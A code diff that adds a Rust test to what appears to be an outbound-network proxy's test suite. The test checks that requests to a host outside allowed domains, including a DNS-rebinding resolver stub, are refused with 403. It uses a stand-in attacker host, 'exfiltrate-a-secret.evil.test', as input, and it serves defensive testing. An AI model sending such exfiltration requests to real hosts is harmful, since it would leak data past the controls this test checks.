@@ -135,3 +135,22 @@ async fn r_net_8_unresolvable_name_is_refused() {
     assert_eq!(status(&r), 403, "{r}");
     assert!(r.contains("did not resolve"), "{r}");
 }
+
+#[tokio::test]
+async fn r_net_4_names_outside_the_domains_are_never_resolved() {
+    let resolver = Arc::new(Rebinding {
+        answers: vec![vec!["127.0.0.1".parse().unwrap()]],
+        calls: AtomicUsize::new(0),
+    });
+    let env = Env::start(Opts {
+        ranges: vec!["127.0.0.0/8"],
+        resolver: Some(resolver.clone()),
+        ..Opts::default()
+    })
+    .await;
+    let r = env.get("http://exfiltrate-a-secret.evil.test/").await;
+    assert_eq!(status(&r), 403, "{r}");
+    let (_, r) = connect(&env, "exfiltrate-a-secret.evil.test:443", "").await;
+    assert_eq!(status(&r), 403, "{r}");
+    assert_eq!(resolver.calls.load(Ordering::SeqCst), 0);
+}
